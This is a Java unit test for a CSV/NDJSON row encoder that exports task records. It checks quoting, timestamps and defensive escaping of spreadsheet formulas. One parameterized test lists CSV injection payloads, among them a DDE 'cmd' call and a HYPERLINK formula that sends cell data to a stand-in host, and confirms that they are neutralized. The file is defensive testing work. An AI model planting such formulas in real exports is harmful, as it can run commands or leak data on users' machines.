package io.pagewalk.samples.export.output;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.pagewalk.dcs.OfflineKeyAnalysisTask;
import io.pagewalk.dcs.TaskStatus;
import io.pagewalk.samples.export.Json;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** How rows are written, whatever is in them. */
class EncoderTest {
  private static final OfflineKeyAnalysisTask DONE =
      new OfflineKeyAnalysisTask(
          "858ee14c-2271-4489-8b82-7bda7459ae3e",
          TaskStatus.SUCCESS,
          Instant.parse("2024-10-15T02:21:18.669Z"),
          Instant.parse("2024-10-15T02:21:23Z"),
          Instant.parse("2024-10-15T02:21:25.588999999Z"));
  private static final OfflineKeyAnalysisTask BARE =
      new OfflineKeyAnalysisTask("a", null, null, null, null);
  private static final OfflineKeyAnalysisTask AWKWARD =
      new OfflineKeyAnalysisTask(
          "say \"no\", then\r\nleave", TaskStatus.of("új, \"odd\"\n"), null, null, null);

  private final TimeText times = new TimeText();

  private static String written(Format format, OfflineKeyAnalysisTask... tasks) {
    return written(format, CellText.GUARDED, "i-1", tasks);
  }

  private static String written(
      Format format, CellText cells, String instanceId, OfflineKeyAnalysisTask... tasks) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    RowEncoder encoder =
        new TextFormat(format, cells, Compression.NONE, TaskBatch.shape(false)).encoder(out);
    encoder.writeHeader();
    TaskBatch batch = TaskBatch.of(instanceId, List.of(tasks));
    for (int i = 0; i < batch.size(); i++) {
      encoder.write(batch, i);
    }
    encoder.flush();
    return out.toString(StandardCharsets.UTF_8);
  }

  /** The cells of the only row below the header. */
  private static List<String> cells(CellText cells, String text) throws IOException {
    OfflineKeyAnalysisTask task =
        new OfflineKeyAnalysisTask(
            text, TaskStatus.of(text), Instant.parse("2024-10-15T02:21:18.669Z"), null, null);
    try (CsvReader<CsvRecord> reader =
        CsvReader.builder().ofCsvRecord(written(Format.CSV, cells, text, task))) {
      return reader.stream().skip(1).findFirst().orElseThrow().getFields();
    }
  }

  @Test
  void ndjsonIsOneObjectALineWithEveryField() {
    assertThat(written(Format.NDJSON, DONE, BARE))
        .isEqualTo(
            """
            {"instance_id":"i-1","id":"858ee14c-2271-4489-8b82-7bda7459ae3e","status":"success",\
            "created_at":"2024-10-15T02:21:18.669Z","started_at":"2024-10-15T02:21:23.000Z",\
            "finished_at":"2024-10-15T02:21:25.588Z"}
            {"instance_id":"i-1","id":"a","status":null,"created_at":null,"started_at":null,\
            "finished_at":null}
            """);
  }

  @Test
  void whatAnAnalysisFoundIsTheLastField() throws IOException {
    String found = "{\"id\":\"a\",\"largest_keys\":[{\"key\":\"x,\\\"y\\\"\"}]}";

    assertThat(withAnalyses(Format.NDJSON, found, null))
        .isEqualTo(
            """
            {"instance_id":"i-1","id":"a","status":null,"created_at":null,"started_at":null,\
            "finished_at":null,"analysis":%s}
            {"instance_id":"i-1","id":"a","status":null,"created_at":null,"started_at":null,\
            "finished_at":null,"analysis":null}
            """
                .formatted(found));
    try (CsvReader<CsvRecord> reader =
        CsvReader.builder().ofCsvRecord(withAnalyses(Format.CSV, found, null))) {
      assertThat(reader.stream().map(CsvRecord::getFields).toList())
          .containsExactly(
              List.of(
                  "instance_id",
                  "id",
                  "status",
                  "created_at",
                  "started_at",
                  "finished_at",
                  "analysis"),
              List.of("i-1", "a", "", "", "", "", found),
              List.of("i-1", "a", "", "", "", "", ""));
    }
  }

  private static String withAnalyses(Format format, @Nullable String... analyses) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    RowEncoder encoder =
        new TextFormat(format, CellText.GUARDED, Compression.NONE, TaskBatch.shape(true))
            .encoder(out);
    encoder.writeHeader();
    TaskBatch batch =
        new TaskBatch("i-1", Collections.nCopies(analyses.length, BARE), Arrays.asList(analyses));
    for (int i = 0; i < batch.size(); i++) {
      encoder.write(batch, i);
    }
    encoder.flush();
    return out.toString(StandardCharsets.UTF_8);
  }

  @Test
  void ndjsonKeepsALineALineWhateverIsInIt() {
    String text = written(Format.NDJSON, AWKWARD);

    assertThat(text.lines()).hasSize(1);
    Map<String, Object> row = Json.object(text);
    assertThat(row).containsEntry("id", AWKWARD.id()).containsEntry("status", "új, \"odd\"\n");
  }

  @Test
  void csvIsAsRfc4180HasIt() {
    assertThat(written(Format.CSV, DONE, BARE))
        .isEqualTo(
            "instance_id,id,status,created_at,started_at,finished_at\r\n"
                + "i-1,858ee14c-2271-4489-8b82-7bda7459ae3e,success,2024-10-15T02:21:18.669Z,"
                + "2024-10-15T02:21:23.000Z,2024-10-15T02:21:25.588Z\r\n"
                + "i-1,a,,,,\r\n");
  }

  @Test
  void csvQuotesWhatNeedsIt() throws Exception {
    String text = written(Format.CSV, AWKWARD, DONE);

    assertThat(text).contains("i-1,\"say \"\"no\"\", then\r\nleave\",\"új, \"\"odd\"\"\n\",,,\r\n");
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(text)) {
      List<CsvRecord> records = reader.stream().toList();
      assertThat(records).hasSize(3);
      assertThat(records.get(1).getFields())
          .containsExactly("i-1", AWKWARD.id(), "új, \"odd\"\n", "", "", "");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://elsewhere.example/?\"&B1)",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
        "="
      })
  void aCellThatASpreadsheetMightCalculateBeginsWithAnApostrophe(String text) throws Exception {
    assertThat(cells(CellText.GUARDED, text))
        .containsExactly("'" + text, "'" + text, "'" + text, "2024-10-15T02:21:18.669Z", "", "");
    assertThat(cells(CellText.RAW, text))
        .containsExactly(text, text, text, "2024-10-15T02:21:18.669Z", "", "");
    assertThat(
            Json.object(
                written(
                    Format.NDJSON,
                    CellText.GUARDED,
                    "i-1",
                    new OfflineKeyAnalysisTask(text, null, null, null, null))))
        .containsEntry("id", text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a=1", "858ee14c-2271", "success", "'=1", " =1", "1+1", "\"=1\""})
  void anyOtherCellKeepsItsText(String text) throws Exception {
    assertThat(cells(CellText.GUARDED, text)).startsWith(text, text, text);
  }

  @Test
  void aTimeThatBeginsWithASignIsNoText() {
    OfflineKeyAnalysisTask late =
        new OfflineKeyAnalysisTask("a", null, Instant.parse("+10000-01-01T00:00:00Z"), null, null);

    assertThat(written(Format.CSV, late)).contains("\r\ni-1,a,,+10000-01-01T00:00:00.000Z,,\r\n");
  }

  @Test
  void timesAreAsJavaWritesThemToTheMillisecond() {
    Random random = new Random(20_240_229);
    long span = Instant.parse("9999-12-31T23:59:59Z").getEpochSecond();
    for (int i = 0; i < 20_000; i++) {
      Instant time =
          Instant.ofEpochSecond(
              random.nextLong(-62_167_219_200L, span), random.nextInt(1_000_000_000));
      // Within a second Java's own form has three digits only where they are not all zero.
      Instant odd = time.truncatedTo(ChronoUnit.SECONDS).plusMillis(1 + random.nextInt(999));

      assertThat(put(odd)).isEqualTo(odd.toString());
    }
  }

  @Test
  void timesHaveThreeDigitsAndAreNotRounded() {
    assertThat(put(Instant.parse("2024-02-29T23:59:59.9999Z")))
        .isEqualTo("2024-02-29T23:59:59.999Z");
    assertThat(put(Instant.parse("2024-03-01T00:00:00Z"))).isEqualTo("2024-03-01T00:00:00.000Z");
    assertThat(put(Instant.parse("1969-12-31T23:59:59.001Z")))
        .isEqualTo("1969-12-31T23:59:59.001Z");
    assertThat(put(Instant.parse("2024-03-01T00:00:00.05Z"))).isEqualTo("2024-03-01T00:00:00.050Z");
    assertThat(TimeText.of(Instant.parse("+10000-01-01T00:00:00.0009Z")))
        .isEqualTo("+10000-01-01T00:00:00.000Z");
  }

  private String put(Instant time) {
    byte[] text = new byte[TimeText.LENGTH];
    assertThat(times.put(time, text, 0)).isTrue();
    return new String(text, StandardCharsets.US_ASCII);
  }
}
